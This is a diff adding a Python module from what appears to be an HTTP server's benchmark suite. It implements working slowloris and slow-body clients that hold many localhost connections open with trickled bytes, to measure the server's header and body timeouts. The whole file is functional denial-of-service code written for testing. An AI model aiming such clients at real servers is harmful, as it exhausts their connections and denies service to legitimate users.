@@ -1,0 +1,128 @@
+"""python -m bench.attack: hostile clients for the `attack` suite, run as their own process (pinned to the
+load generator's core by the runner, so their CPU is never counted as the server's).
+
+Modes (each keeps CONNS connections open and re-opens any the server closes):
+  slowloris  a large incomplete head sent at once (HEAD_BYTES), then one byte per connection every
+             INTERVAL seconds, never finishing the head: the parser sees a long buffered head grow a
+             byte at a time (the re-parse cost) until the server's header timeout closes it.
+  slowbody   a complete head of `POST /` with Content-Length BODY_BYTES, then one body byte per
+             connection every INTERVAL seconds: the body never completes before the body timeout.
+
+Prints one line `ready <n>` once every connection is open and its first bytes are sent, then, on
+SIGTERM or after --seconds, one JSON line of counters: connects, reconnects (connections the server
+closed), bytes sent.
+"""
+import argparse
+import json
+import selectors
+import signal
+import socket
+import sys
+import time
+
+FILLER_VALUE = "a" * 8000  # one header line just under the default --limit-request-field-size
+
+
+def slowloris_head(head_bytes):
+    lines = ["GET / HTTP/1.1", "Host: 127.0.0.1"]
+    size = sum(len(x) + 2 for x in lines)
+    i = 0
+    while size + len(FILLER_VALUE) + 16 < head_bytes:
+        line = f"X-Filler-{i}: {FILLER_VALUE}"
+        lines.append(line)
+        size += len(line) + 2
+        i += 1
+    # The last line stays open: every trickled byte extends one header value, so no LF ever ends it.
+    return ("\r\n".join(lines) + "\r\nX-Trickle: ").encode()
+
+
+def slowbody_head(body_bytes):
+    return (f"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/octet-stream\r\n"
+            f"Content-Length: {body_bytes}\r\n\r\n").encode()
+
+
+class Attack:
+    def __init__(self, port, mode, conns, interval, head_bytes, body_bytes):
+        self.port, self.mode, self.conns, self.interval = port, mode, conns, interval
+        self.head = slowloris_head(head_bytes) if mode == "slowloris" else slowbody_head(body_bytes)
+        self.sel = selectors.DefaultSelector()
+        self.socks = []
+        self.counters = {"mode": mode, "connections": conns, "connects": 0, "reconnects": 0, "bytes_sent": 0,
+                         "interval_s": interval, "head_bytes": len(self.head)}
+
+    def open_one(self):
+        s = socket.create_connection(("127.0.0.1", self.port), timeout=5)
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        s.sendall(self.head)
+        s.setblocking(False)
+        self.sel.register(s, selectors.EVENT_READ)
+        self.counters["connects"] += 1
+        self.counters["bytes_sent"] += len(self.head)
+        return s
+
+    def replace(self, s):
+        try:
+            self.sel.unregister(s)
+        except (KeyError, ValueError):
+            pass
+        s.close()
+        self.counters["reconnects"] += 1
+        return self.open_one()
+
+    def run(self, seconds, stop):
+        self.socks = [self.open_one() for _ in range(self.conns)]
+        print(f"ready {len(self.socks)}", flush=True)
+        deadline = time.monotonic() + seconds
+        # One byte to each connection per interval, spread evenly over it.
+        step = self.interval / max(1, self.conns)
+        nxt = time.monotonic()
+        i = 0
+        while not stop() and time.monotonic() < deadline:
+            timeout = max(0.0, nxt - time.monotonic())
+            for key, _ in self.sel.select(timeout):
+                s = key.fileobj
+                try:
+                    data = s.recv(65536)
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    data = b""
+                if not data:  # the server closed it (a timeout): a new one takes its place
+                    self.socks[self.socks.index(s)] = self.replace(s)
+            if time.monotonic() >= nxt:
+                s = self.socks[i % len(self.socks)]
+                try:
+                    s.send(b"a")
+                    self.counters["bytes_sent"] += 1
+                except (BlockingIOError, InterruptedError):
+                    pass
+                except OSError:
+                    self.socks[i % len(self.socks)] = self.replace(s)
+                i += 1
+                nxt += step
+        for s in self.socks:
+            s.close()
+        return self.counters
+
+
+def main(argv=None):
+    ap = argparse.ArgumentParser(prog="python -m bench.attack", description=__doc__,
+                                 formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--port", type=int, required=True)
+    ap.add_argument("--mode", choices=("slowloris", "slowbody"), required=True)
+    ap.add_argument("--conns", type=int, default=200)
+    ap.add_argument("--interval", type=float, default=0.1, help="seconds between two bytes on one connection")
+    ap.add_argument("--head-bytes", type=int, default=70_000, help="slowloris: bytes of head sent at once")
+    ap.add_argument("--body-bytes", type=int, default=1_000_000, help="slowbody: the declared Content-Length")
+    ap.add_argument("--seconds", type=float, default=600.0)
+    args = ap.parse_args(argv)
+    stopping = []
+    signal.signal(signal.SIGTERM, lambda *_: stopping.append(1))
+    attack = Attack(args.port, args.mode, args.conns, args.interval, args.head_bytes, args.body_bytes)
+    counters = attack.run(args.seconds, lambda: bool(stopping))
+    print(json.dumps(counters), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
